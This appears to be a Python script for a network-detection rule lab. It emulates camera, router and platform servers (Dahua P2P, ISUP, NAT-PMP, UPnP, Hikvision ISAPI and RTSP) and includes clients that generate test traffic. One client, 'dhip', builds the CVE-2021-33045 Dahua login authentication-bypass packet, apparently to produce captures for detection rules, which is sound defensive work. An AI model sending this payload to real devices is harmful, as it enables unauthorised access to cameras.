#!/usr/bin/env python3
"""
The small servers and clients of the rule-pack lab that no Debian tool plays (used by
make-captures.sh, run inside its network namespaces; standard library only).

Servers (`labnet.py serve ROLE`), each bound to its own namespace's addresses:
  inet    192.0.2.23 UDP 8800: a Dahua P2P rendezvous server answering DHGET
          (khoanguyen-3fc/dh-p2p README); 203.0.113.24 TCP 7660: an ISUP/EHome
          platform server (oldweipro/hik-isup README: 7660 register); 203.0.113.30
          UDP 5004/5005: a sink for RTP/RTCP
  router  10.20.0.1 UDP 5351: NAT-PMP (RFC 6886) answers; TCP 5000: a UPnP IGD
          (root description and the WANIPConnection SOAP control URL)
  camera  10.20.0.11 TCP 80: the camera's web API (ISAPI, Dahua CGI/RPC2 paths,
          Server: App-webs/); TCP 554: RTSP asking for Digest auth, realm "Hikvision";
          TCP 37777: a DVRIP/DHIP port that reads and closes
  laptop  10.20.0.200 UDP 9978: the Hikvision TFTP-reflash handshake echo
          (scottlamb/hikvision-tftpd); TCP 8080: a web page
Clients (`labnet.py NAME ARGS`): dhget, isup, swkh, dhip.
"""

import http.server
import json
import socket
import socketserver
import struct
import sys
import threading
import time

EPOCH = int(time.time()) & 0xFFFFFFFF


def udp_server(addr, port, handler):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((addr, port))

    def loop():
        while True:
            data, peer = s.recvfrom(65535)
            reply = handler(data, peer)
            if reply:
                s.sendto(reply, peer)

    threading.Thread(target=loop, daemon=True).start()


def tcp_server(addr, port, handler):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((addr, port))
    s.listen(16)

    def serve(conn):
        with conn:
            conn.settimeout(5)
            try:
                handler(conn)
            except OSError:
                pass

    def loop():
        while True:
            conn, _ = s.accept()
            threading.Thread(target=serve, args=(conn,), daemon=True).start()

    threading.Thread(target=loop, daemon=True).start()


def http_server(addr, port, handler_class):
    class Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
        daemon_threads = True
        allow_reuse_address = True

    srv = Server((addr, port), handler_class)
    threading.Thread(target=srv.serve_forever, daemon=True).start()


class Handler(http.server.BaseHTTPRequestHandler):
    """Reads any request's body, then answers with what route() says."""

    protocol_version = "HTTP/1.1"
    sys_version = ""

    def log_message(self, *args):
        pass

    def body(self):
        n = int(self.headers.get("Content-Length") or 0)
        return self.rfile.read(n) if n > 0 else b""

    def answer(self):
        self.body()
        status, ctype, text = self.route()
        data = text.encode()
        self.send_response(status)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(data)))
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(data)
        self.close_connection = True

    do_GET = do_PUT = do_POST = do_DELETE = answer

    def route(self):
        return 404, "text/plain", "not found\n"


# --- inet --------------------------------------------------------------------------------


def dahua_p2p(data, peer):
    if data.startswith(b"DHGET ") or data.startswith(b"DHPOST "):
        return b"HTTP/1.1 200 OK\r\nCSeq: 1\r\nContent-Length: 0\r\n\r\n"
    return None


def isup_platform(conn):
    conn.recv(4096)
    conn.sendall(b"<?xml version=\"1.0\"?><Response><Status>200</Status></Response>")


def sink(data, peer):
    return None


# --- router: NAT-PMP and a UPnP IGD -------------------------------------------------------

IGD_DESC = """<?xml version="1.0"?>
<root xmlns="urn:schemas-upnp-org:device-1-0">
<specVersion><major>1</major><minor>0</minor></specVersion>
<device>
<deviceType>urn:schemas-upnp-org:device:InternetGatewayDevice:1</deviceType>
<friendlyName>lab gateway</friendlyName><UDN>uuid:00000000-0000-0000-0000-000000000001</UDN>
<deviceList><device>
<deviceType>urn:schemas-upnp-org:device:WANDevice:1</deviceType>
<UDN>uuid:00000000-0000-0000-0000-000000000002</UDN>
<serviceList><service>
<serviceType>urn:schemas-upnp-org:service:WANCommonInterfaceConfig:1</serviceType>
<serviceId>urn:upnp-org:serviceId:WANCommonIFC1</serviceId>
<controlURL>/ctl/CmnIfCfg</controlURL><eventSubURL>/evt/CmnIfCfg</eventSubURL><SCPDURL>/WANCfg.xml</SCPDURL>
</service></serviceList>
<deviceList><device>
<deviceType>urn:schemas-upnp-org:device:WANConnectionDevice:1</deviceType>
<UDN>uuid:00000000-0000-0000-0000-000000000003</UDN>
<serviceList><service>
<serviceType>urn:schemas-upnp-org:service:WANIPConnection:1</serviceType>
<serviceId>urn:upnp-org:serviceId:WANIPConn1</serviceId>
<controlURL>/ctl/IPConn</controlURL><eventSubURL>/evt/IPConn</eventSubURL><SCPDURL>/WANIPCn.xml</SCPDURL>
</service></serviceList>
</device></deviceList>
</device></deviceList>
</device>
</root>
"""

SOAP_ANSWERS = {
    "GetStatusInfo": "<NewConnectionStatus>Connected</NewConnectionStatus>"
    "<NewLastConnectionError>ERROR_NONE</NewLastConnectionError><NewUptime>1000</NewUptime>",
    "GetExternalIPAddress": "<NewExternalIPAddress>198.51.100.1</NewExternalIPAddress>",
    "GetConnectionTypeInfo": "<NewConnectionType>IP_Routed</NewConnectionType>"
    "<NewPossibleConnectionTypes>IP_Routed</NewPossibleConnectionTypes>",
}


class IgdHandler(Handler):
    server_version = "lab-igd/1.0 UPnP/1.1"

    def route(self):
        if self.command == "GET" and self.path == "/rootDesc.xml":
            return 200, 'text/xml; charset="utf-8"', IGD_DESC
        if self.command == "POST" and self.path.startswith("/ctl/"):
            action = (self.headers.get("SOAPAction") or "").strip('"').split("#")[-1]
            service = "urn:schemas-upnp-org:service:WANIPConnection:1"
            inner = SOAP_ANSWERS.get(action, "")
            if action == "GetSpecificPortMappingEntry":
                inner = (
                    "<NewInternalPort>80</NewInternalPort><NewInternalClient>10.20.0.11</NewInternalClient>"
                    "<NewEnabled>1</NewEnabled><NewPortMappingDescription>libminiupnpc</NewPortMappingDescription>"
                    "<NewLeaseDuration>0</NewLeaseDuration>"
                )
            envelope = (
                '<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
                's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body>'
                f'<u:{action}Response xmlns:u="{service}">{inner}</u:{action}Response>'
                "</s:Body></s:Envelope>"
            )
            return 200, 'text/xml; charset="utf-8"', envelope
        return 404, "text/plain", "not found\n"


def nat_pmp(data, peer):
    if len(data) < 2 or data[0] != 0:
        return None
    op = data[1]
    if op == 0:
        return struct.pack(">BBHI4s", 0, 128, 0, EPOCH, socket.inet_aton("198.51.100.1"))
    if op in (1, 2) and len(data) >= 12:
        _, _, _, internal, external, lifetime = struct.unpack(">BBHHHI", data[:12])
        return struct.pack(">BBHIHHI", 0, 128 + op, 0, EPOCH, internal, external or internal, lifetime)
    return None


# --- camera ---------------------------------------------------------------------------------

OK_XML = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<ResponseStatus version="2.0" '
    'xmlns="http://www.hikvision.com/ver20/XMLSchema"><requestURL>{}</requestURL>'
    "<statusCode>1</statusCode><statusString>OK</statusString><subStatusCode>ok</subStatusCode>"
    "</ResponseStatus>\n"
)


class CameraHandler(Handler):
    server_version = "App-webs/"

    def route(self):
        path = self.path.split("?", 1)[0]
        if path == "/ISAPI/System/upgradeStatus":
            return 200, "application/xml", (
                '<?xml version="1.0" encoding="UTF-8"?>\n<upgradeStatus><upgrading>false</upgrading>'
                "<percent>100</percent></upgradeStatus>\n"
            )
        if path.startswith("/ISAPI/"):
            return 200, "application/xml", OK_XML.format(path)
        if path == "/SDK/webLanguage":
            return 500, "text/plain", "Internal Server Error\n"
        if path == "/RPC2_Login":
            return 200, "application/json", json.dumps(
                {"id": 1, "result": False, "params": None, "session": 0}
            )
        if path.startswith("/cgi-bin/"):
            return 200, "text/plain", "OK\r\n"
        if path == "/system/deviceInfo":
            return 401, "text/plain", "Unauthorized\n"
        return 404, "text/plain", "not found\n"


def rtsp_camera(conn):
    buf = b""
    while True:
        chunk = conn.recv(4096)
        if not chunk:
            return
        buf += chunk
        while b"\r\n\r\n" in buf:
            head, buf = buf.split(b"\r\n\r\n", 1)
            lines = head.decode("latin-1").split("\r\n")
            method = lines[0].split(" ")[0]
            cseq = next((ln.split(":", 1)[1].strip() for ln in lines if ln.lower().startswith("cseq:")), "1")
            if method == "OPTIONS":
                reply = (
                    f"RTSP/1.0 200 OK\r\nCSeq: {cseq}\r\n"
                    "Public: OPTIONS, DESCRIBE, PLAY, PAUSE, SETUP, TEARDOWN, SET_PARAMETER, GET_PARAMETER\r\n\r\n"
                )
            else:
                reply = (
                    f"RTSP/1.0 401 Unauthorized\r\nCSeq: {cseq}\r\n"
                    'WWW-Authenticate: Digest realm="Hikvision", nonce="0f1e2d3c4b5a69788796a5b4c3d2e1f0", stale="FALSE"\r\n\r\n'
                )
            conn.sendall(reply.encode())


def read_and_close(conn):
    conn.recv(4096)


# --- laptop ----------------------------------------------------------------------------------

SWKH = struct.pack("20s", b"SWKH")


def swkh_echo(data, peer):
    return data if data == SWKH else None


class PageHandler(Handler):
    server_version = "lab/1.0"

    def route(self):
        return 200, "text/html", "<!doctype html><title>laptop</title>\n"


def serve(role):
    if role == "inet":
        udp_server("192.0.2.23", 8800, dahua_p2p)
        tcp_server("203.0.113.24", 7660, isup_platform)
        udp_server("203.0.113.30", 5004, sink)
        udp_server("203.0.113.30", 5005, sink)
    elif role == "router":
        udp_server("10.20.0.1", 5351, nat_pmp)
        http_server("10.20.0.1", 5000, IgdHandler)
    elif role == "camera":
        http_server("10.20.0.11", 80, CameraHandler)
        tcp_server("10.20.0.11", 554, rtsp_camera)
        tcp_server("10.20.0.11", 37777, read_and_close)
    elif role == "laptop":
        udp_server("10.20.0.200", 9978, swkh_echo)
        http_server("10.20.0.200", 8080, PageHandler)
    else:
        sys.exit(f"unknown role {role}")
    print("ready", flush=True)
    while True:
        time.sleep(3600)


# --- clients ---------------------------------------------------------------------------------


def udp_ask(payload, addr, bind=None):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    if bind is not None:
        s.bind(bind)
    s.settimeout(2)
    s.sendto(payload, addr)
    try:
        return s.recvfrom(65535)[0]
    except socket.timeout:
        return None
    finally:
        s.close()


def dhget(host):
    """A Dahua camera asking its P2P server whether it is there (dh-p2p README)."""
    ip = socket.getaddrinfo(host, 8800, socket.AF_INET, socket.SOCK_DGRAM)[0][4][0]
    reply = udp_ask(b"DHGET /probe/p2psrv HTTP/1.1\r\nCSeq: 1\r\n\r\n", (ip, 8800))
    if reply is None:
        sys.exit("no answer from the P2P server")


def isup(ip, port):
    """A camera registering with an ISUP/EHome platform server at an operator-set address."""
    with socket.create_connection((ip, int(port)), timeout=3) as s:
        s.sendall(b"<?xml version=\"1.0\"?><Request><DeviceID>lab-camera</DeviceID></Request>")
        s.recv(4096)


def swkh(server):
    """The first step of a Hikvision TFTP reflash: 20 bytes from UDP 9979 to 9978, echoed."""
    reply = udp_ask(SWKH, (server, 9978), bind=("10.20.0.11", 9979))
    if reply != SWKH:
        sys.exit("no handshake echo")


def dhip(ip, port, source=None):
    """DHIP global.login with loginType Loopback / clientType Local (CVE-2021-33045, mcw0/PoC)."""
    body = json.dumps(
        {
            "method": "global.login",
            "params": {
                "userName": "admin",
                "password": "",
                "clientType": "Local",
                "loginType": "Loopback",
                "authorityType": "Default",
                "passwordType": "Default",
            },
            "id": 1,
            "session": 0,
        }
    ).encode()
    header = struct.pack("<I4sIIIIII", 0x20000000, b"DHIP", 0, 1, len(body), 0, len(body), 0)
    src = (source, 0) if source else None
    with socket.create_connection((ip, int(port)), timeout=3, source_address=src) as s:
        s.sendall(header + body)


if __name__ == "__main__":
    cmd, args = sys.argv[1], sys.argv[2:]
    if cmd == "serve":
        serve(*args)
    else:
        {"dhget": dhget, "isup": isup, "swkh": swkh, "dhip": dhip}[cmd](*args)
